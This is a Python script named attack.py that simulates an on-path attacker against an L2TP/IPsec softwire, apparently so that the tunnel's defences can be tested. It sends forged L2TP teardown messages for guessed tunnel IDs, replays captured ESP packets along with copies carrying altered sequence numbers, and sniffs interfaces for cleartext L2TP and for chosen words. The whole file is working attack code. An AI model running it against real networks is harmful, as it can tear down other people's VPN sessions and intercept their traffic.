#!/usr/bin/python3
# SPDX-License-Identifier: ISC
"""What somebody on the path of a softwire may try: attack.py VERB ...

  l2tp ADDRESS PORT         plain L2TP to a concentrator: SCCRQ, StopCCN and CDN for a thousand guessed tunnels; prints the
                            number of answers within a second
  replay INTERFACE ADDRESS  records for a second what goes to ADDRESS as ESP, in UDP or not, sends it all again, and some
                            of it changed; prints the number of packets sent
  clear INTERFACE SECONDS   watches; prints how many packets to or from UDP port 1701 went by
  grep INTERFACE SECONDS WORD...
                            watches; prints each word that went by in a packet, whole or as UTF-16; and "packets" where
                            IKE or ESP went by at all
"""

import ipaddress
import select
import socket
import struct
import sys
import time

IPV4, IPV6 = 0x0800, 0x86dd


def avp(kind, value, mandatory=True):
    return struct.pack("!HHH", (0x8000 if mandatory else 0) | 6 + len(value), 0, kind) + value


def control(tunnel, session, ns, nr, avps):
    return struct.pack("!HHHHHH", 0xc802, 12 + len(avps), tunnel, session, ns, nr) + avps


def l2tp(address, port):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    sccrq = control(0, 0, 0, 0, avp(0, b"\0\1") + avp(2, b"\1\0") + avp(3, b"\0\0\0\3") + avp(7, b"mallory")
                    + avp(9, b"\0\7") + avp(10, b"\0\10"))
    answers = 0
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.bind(("::" if family == socket.AF_INET6 else "", 1701))
        s.sendto(sccrq, (address, int(port)))
        for tunnel in range(1, 1001):
            s.sendto(control(tunnel, 0, 1, 1, avp(0, b"\0\4") + avp(1, b"\0\6") + avp(9, b"\0\7")), (address, int(port)))
            s.sendto(control(tunnel, 1, 1, 1, avp(0, b"\0\16") + avp(1, b"\0\3") + avp(14, b"\0\7")), (address, int(port)))
        end = time.monotonic() + 1
        while select.select([s], [], [], max(0, end - time.monotonic()))[0]:
            s.recv(2048)
            answers += 1
    print(answers)


def frames(interface, seconds):
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 << 20)
        s.bind((interface, 3))
        end = time.monotonic() + float(seconds)
        while select.select([s], [], [], max(0, end - time.monotonic()))[0]:
            yield s.recv(65536)


def parse(frame):
    """(destination, protocol, offset of what the IP header carries), or nothing."""
    kind = struct.unpack_from("!H", frame, 12)[0]
    if kind == IPV4 and len(frame) >= 34:
        return ipaddress.ip_address(frame[30:34]), frame[23], 14 + 4 * (frame[14] & 15)
    if kind == IPV6 and len(frame) >= 54:
        return ipaddress.ip_address(frame[38:54]), frame[20], 54
    return None, None, None


def is_esp(frame, protocol, at):
    if protocol == 50:
        return True
    return (protocol == 17 and len(frame) > at + 12 and 4500 in struct.unpack_from("!HH", frame, at)
            and frame[at + 8:at + 12] != b"\0\0\0\0")


def without_checksum(frame, at):
    """UDP's is not computed yet where a frame leaves a virtual interface; over IPv4 none is as good."""
    return frame[:at + 6] + b"\0\0" + frame[at + 8:]


def replay(interface, address):
    wanted, found = ipaddress.ip_address(address), []
    for frame in frames(interface, 1):
        to, protocol, at = parse(frame)
        if to == wanted and is_esp(frame, protocol, at):
            found.append((without_checksum(frame, at) if protocol == 17 else frame, at))
    sent = 0
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s:
        s.bind((interface, 3))
        for frame, at in found[:2000]:
            changed = bytearray(frame)
            changed[at + (12 if frame[at - 11] == 17 else 4) + 2] ^= 0x40  # a sequence number that has not come yet
            for packet in (frame, bytes(changed)):
                s.send(packet)
                sent += 1
    print(sent)


def clear(interface, seconds):
    count = 0
    for frame in frames(interface, seconds):
        _, protocol, at = parse(frame)
        if protocol == 17 and len(frame) >= at + 8 and 1701 in struct.unpack_from("!HH", frame, at):
            count += 1
    print(count)


def grep(interface, seconds, *words):
    found = set()
    for frame in frames(interface, seconds):
        _, protocol, at = parse(frame)
        if protocol == 50 or (protocol == 17 and {500, 4500} & set(struct.unpack_from("!HH", frame, at))):
            found.add("packets")
        for word in words:
            if word.encode() in frame or word.encode("utf-16-le") in frame:
                found.add(word)
    for word in sorted(found):
        print(word)


def main():
    verbs = {"l2tp": l2tp, "replay": replay, "clear": clear, "grep": grep}
    if len(sys.argv) < 3 or sys.argv[1] not in verbs:
        sys.exit(__doc__)
    verbs[sys.argv[1]](*sys.argv[2:])


main()
